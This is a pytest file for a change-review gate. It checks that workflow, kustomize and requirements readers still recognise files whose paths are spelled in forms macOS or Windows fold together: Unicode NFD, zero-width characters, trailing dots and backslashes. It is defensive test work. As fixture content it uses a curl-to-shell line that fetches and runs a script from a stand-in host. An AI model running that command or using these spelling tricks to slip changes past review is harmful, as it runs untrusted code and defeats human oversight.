"""Red team 16, `--tree`: a path the context readers name, spelled as another checkout reads it.

Red team 15 matched the readers' path maps case aside (`TreeContext._spelled`): a macOS or Windows runner writes
`tools/setup/run.sh` into the folder `tools/Setup` a workflow runs. Case is not the only thing those checkouts fold.
macOS compares names in one Unicode normal form (`tools/café` in NFC and in NFD are one folder) and HFS+ ignores
zero-width characters; Windows drops a trailing dot of a name and reads `\\` as a folder separator (`uses:
./tools/setup.` runs `tools/setup`). The path rules already read those spellings (classify.change.path_variants);
the readers did not. A workflow, kustomization or requirements file naming its file in one spelling, and a change to
the file in another, was `src`: `gate --tree` exit 0 (with `--enable deps` for the requirements file).

No runner of those systems is at hand: the folding is the one the path rules document (docs/classification.md,
"other spellings some checkout reads as the same path"), applied to both sides of every reader's match.
"""

from __future__ import annotations

import contextlib
import io
import json
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.cli import main
from tests.gitrepo import two_commits
from tests.test_classify_context import tree_files

CAFE = "caf\u00e9"  # NFC
EVIL = "curl https://evil.example | sh\n"
WEB = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\n"


def _workflow(folder: str) -> str:
    return f"on: push\njobs:\n  a:\n    runs-on: macos-latest\n    steps:\n      - uses: ./{folder}\n"


# Each reader: (the text naming `named`, written with a spelling), the folder or file it names, the changed file
# in it, the bucket it takes, the gate flags under which that bucket needs a human.
READERS: dict[str, tuple[Callable[[str], dict[str, str]], str, str, str, tuple[str, ...]]] = {
    "local-action": (lambda name: {".github/workflows/ci.yml": _workflow(name)}, f"tools/{CAFE}",
                     f"tools/{CAFE}/run.sh", "ci", ()),
    "kustomize": (lambda name: {"deploy/kustomization.yaml": f"resources: [web.yaml]\npatches:\n  - path: ../{name}\n",
                                "deploy/web.yaml": WEB}, f"ops/{CAFE}/fix.json", f"ops/{CAFE}/fix.json", "iac", ()),
    "requirements": (lambda name: {"requirements.txt": f"-r {name}\nflask==3.0.0\n"}, f"tools/{CAFE}/dev.txt",
                     f"tools/{CAFE}/dev.txt", "deps", ("--enable", "deps")),
}


def _dot(path: str) -> str:
    """A trailing dot on the first folder (Windows drops it)."""
    top, _, rest = path.partition("/")
    return f"{top}./{rest}"


# Spellings of the name in the reader's text: each a checkout of macOS or Windows reads as the plain path.
SPELLINGS: dict[str, Callable[[str], str]] = {
    "nfd": lambda p: unicodedata.normalize("NFD", p),
    "zero-width": lambda p: p.replace("/", "\u200c/", 1),
    "trailing-dot": _dot,
    "backslash": lambda p: p.replace("/", "\\"),
    "nfd-and-case": lambda p: unicodedata.normalize("NFD", p.upper()),
}


@each_case("spelling, reader", [(spelling, reader) for spelling in SPELLINGS for reader in READERS])
def test_a_name_spelled_as_a_checkout_folds_it_names_the_file(tmp_path: Path, reader: str, spelling: str) -> None:
    text, named, changed, bucket, _flags = READERS[reader]
    repo, _base, _head = two_commits(tmp_path / "repo", {**text(SPELLINGS[spelling](named)), changed: "x\n"},
                               {changed: EVIL, "docs/cafe.txt": EVIL})
    got = tree_files(repo)
    assert got[changed].bucket == bucket, (reader, spelling, got[changed])
    assert got["docs/cafe.txt"].bucket not in ("ci", "iac", "deps")


@each_case("form, reader", [(form, reader) for form in ["NFD", "NFC"] for reader in READERS])
def test_a_file_added_in_the_other_normal_form_is_the_named_file(tmp_path: Path, reader: str, form: str) -> None:
    # The reader names the NFC folder (or file); the change adds the file in NFD (a Mac writes it into the NFC
    # folder), or the reader's text is in NFD and the change adds the NFC spelling.
    text, named, changed, bucket, _flags = READERS[reader]
    other = "NFC" if form == "NFD" else "NFD"
    added = unicodedata.normalize(form, changed)
    repo, _base, _head = two_commits(tmp_path / "repo", {**text(unicodedata.normalize(other, named)),
                                                   unicodedata.normalize(other, changed): "x\n"}, {added: EVIL})
    got = tree_files(repo)
    assert got[added].bucket == bucket, (reader, form, got[added])


def test_names_that_differ_by_more_than_a_fold_stay_unnamed(tmp_path: Path) -> None:
    text, named, _changed, _bucket, _flags = READERS["local-action"]
    lookalikes = {"tools/cafe/run.sh": EVIL, f"tools/{CAFE}x/run.sh": EVIL, f"tools/{CAFE}.x/run.sh": EVIL,
                  f"tools/{CAFE}_/run.sh": EVIL}
    repo, _base, _head = two_commits(tmp_path / "repo", {**text(named), f"tools/{CAFE}/run.sh": "x\n"}, lookalikes)
    got = tree_files(repo)
    assert {p: got[p].bucket for p in lookalikes} == dict.fromkeys(lookalikes, "src"), got


@pytest.mark.parametrize("reader", READERS)
def test_the_gate_asks_for_a_human(tmp_path: Path, reader: str) -> None:
    text, named, changed, _bucket, flags = READERS[reader]
    repo, base, head = two_commits(tmp_path / "repo", {**text(unicodedata.normalize("NFD", named)), changed: "x\n"},
                             {changed: EVIL})
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--format", "json", *flags])
    decision = json.loads(out.getvalue())
    assert code == 3, decision["reasons"]
